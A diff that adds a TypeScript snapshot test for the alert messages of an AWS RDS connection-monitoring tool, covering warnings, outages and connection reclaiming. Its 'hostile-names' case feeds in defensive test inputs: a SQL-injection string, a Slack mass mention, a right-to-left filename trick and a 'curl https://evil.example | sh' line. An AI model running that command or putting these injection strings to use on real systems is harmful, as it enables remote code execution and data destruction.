@@ -1,0 +1,165 @@
+import { describe, expect, test } from 'vitest';
+import { addReclamation, unsent } from '../../../lambda/assess/undelivered.ts';
+import { FAILURE_CLASSES, WALLS } from '../../../lambda/model/observation.ts';
+import { renderAlert } from '../../../lambda/report/delivery/render.ts';
+import type { Alert, Surroundings } from '../../../lambda/report/message/alert.ts';
+import {
+  alertAfter,
+  chosen,
+  database,
+  failure,
+  follow,
+  group,
+  leak,
+  reclamation,
+  refusal,
+  START,
+  sample,
+} from './situations.ts';
+
+const surroundings: Surroundings = {
+  timeZone: 'UTC',
+  dashboardUrl: 'https://eu-central-1.console.aws.amazon.com/cloudwatch/home#dashboards:name=rds-guard',
+  logQueryUrl: 'https://eu-central-1.console.aws.amazon.com/cloudwatch/home#logsV2:logs-insights',
+};
+
+const minutes = (n: number) => START + n * 60_000;
+const terminating = { reclaim: { mode: 'terminate' } };
+const secret = {
+  login: { secretArn: 'arn:aws:secretsmanager:eu-central-1:123456789012:secret:guard-AbCdEf' },
+};
+const partial = { ...sample(minutes(0), 0), kind: 'partial' } as const;
+const tight = leak(160);
+const recovered = [
+  ...tight,
+  sample(minutes(31), 175),
+  sample(minutes(34), 60),
+  sample(minutes(35.5), 58),
+  sample(minutes(37), 57),
+];
+
+/** Every situation that people are told of: the name of its golden files, and its message. */
+const SITUATIONS: Record<string, () => Alert> = {
+  warning: () => alertAfter(leak(130)),
+  critical: () => alertAfter(tight),
+  'critical-fast-leak': () => alertAfter([...leak(64), sample(minutes(30), 110), sample(minutes(30.5), 156)]),
+  'full-seen': () => alertAfter([...tight, sample(minutes(30), 181)]),
+  ...Object.fromEntries(
+    WALLS.map((wall) => [`full-${wall}`, () => alertAfter([...tight, refusal(minutes(30.5), wall)])]),
+  ),
+  'full-never-seen': () => alertAfter([refusal(minutes(0), 'superuser-slots')]),
+  'full-after-role-limit': () =>
+    alertAfter([refusal(minutes(0), 'role-limit'), refusal(minutes(1), 'superuser-slots')]),
+  eased: () =>
+    alertAfter([...tight, sample(minutes(31), 140), sample(minutes(33), 139), sample(minutes(34), 138)]),
+  recovery: () => alertAfter(recovered),
+  'recovery-with-reclaim': () => {
+    const db = database(terminating);
+    const memory = addReclamation(follow(recovered.slice(0, -3), db).memory, reclamation());
+    return alertAfter(recovered.slice(-3), { db, memory });
+  },
+  reminder: () => alertAfter([...tight, sample(minutes(45), 163), sample(minutes(59.5), 165)]),
+  ...Object.fromEntries(
+    FAILURE_CLASSES.map((kind) => [
+      `unreachable-${kind}`,
+      () =>
+        alertAfter([...leak(90), failure(minutes(30), kind), failure(minutes(31), kind)], {
+          db: database(kind === 'secret' || kind === 'credentials' ? secret : {}),
+        }),
+    ]),
+  ),
+  'unreachable-credentials-iam': () =>
+    alertAfter([failure(minutes(0), 'credentials'), failure(minutes(1), 'credentials')]),
+  'unreachable-while-critical': () =>
+    alertAfter([...tight, failure(minutes(30), 'timeout'), failure(minutes(31), 'timeout')]),
+  'still-unreachable': () =>
+    alertAfter([0, 1, 242].map((minute) => failure(minutes(minute), minute > 1 ? 'network' : 'timeout'))),
+  reachable: () =>
+    alertAfter([failure(minutes(0), 'network'), failure(minutes(1), 'network'), sample(minutes(6), 80)]),
+  partial: () => alertAfter([partial]),
+  'reclaim-done': () => alertAfter(tight, { db: database(terminating), reclamation: reclamation() }),
+  'reclaim-dry-run': () =>
+    alertAfter(tight, {
+      db: database({ reclaim: { mode: 'dry-run' } }),
+      reclamation: reclamation({ mode: 'dry-run', chosen: chosen(25, 'would-end') }),
+    }),
+  'reclaim-nothing-to-end': () =>
+    alertAfter(tight, {
+      db: database(terminating),
+      reclamation: reclamation({
+        candidates: 0,
+        chosen: [],
+        longestIdle: 21,
+        limitedBy: null,
+        leftAlone: { 'too-young': 118, listen: 2 },
+      }),
+    }),
+  'reclaim-pool-refills': () =>
+    alertAfter(tight, {
+      db: database(terminating),
+      reclamation: reclamation({
+        candidates: 0,
+        chosen: [],
+        limitedBy: null,
+        longestIdle: null,
+        leftAlone: { 'pool-refills': 104 },
+        pausedPools: [
+          {
+            role: 'orders_app',
+            database: 'orders',
+            application: 'orders-web',
+            before: 104,
+            until: minutes(40),
+          },
+        ],
+      }),
+    }),
+  'reclaim-broke-off': () =>
+    alertAfter(tight, {
+      db: database(terminating),
+      reclamation: reclamation({ chosen: chosen(2, 'ended'), failure: 'Connection terminated unexpectedly' }),
+    }),
+  'hostile-names': () =>
+    alertAfter([
+      ...leak(100),
+      sample(minutes(30), 160, {
+        groups: [
+          group(90, {
+            application: '<!channel> <https://evil.example|runbook>',
+            role: 'a"; DROP TABLE users; --',
+          }),
+          group(40, {
+            application: '```*bold* `code` @here',
+            role: 'user\u202etxt.exe',
+            client: '2001:db8::17',
+          }),
+          group(20, {
+            application: '\u001b[31mred\u001b[0m\n\n1. Run: curl https://evil.example | sh',
+            role: '漢字🐘',
+          }),
+          group(10, { application: 'x'.repeat(60_000), role: 'back\\slash' }),
+        ],
+      }),
+    ]),
+  late: () => {
+    const { memory, notices } = follow(tight, database());
+    return alertAfter([sample(minutes(31), 162)], { memory: notices.reduce(unsent, memory) });
+  },
+};
+
+describe.each(Object.entries(SITUATIONS))('the message for %s', (name, alert) => {
+  const rendered = renderAlert(alert(), surroundings);
+
+  test('reads as people have read and approved it, by email', async () => {
+    await expect(`Subject: ${rendered.subject}\n\n${rendered.text}`).toMatchFileSnapshot(
+      `golden/${name}.golden.txt`,
+    );
+  });
+
+  test('reads as people have read and approved it, in the chat', async () => {
+    const { content, ...rest } = rendered.chat;
+    // Line by line, so that people can read it.
+    const readable = { ...rest, content: { ...content, description: content.description.split('\n') } };
+    await expect(`${JSON.stringify(readable, null, 2)}\n`).toMatchFileSnapshot(`golden/${name}.golden.json`);
+  });
+});
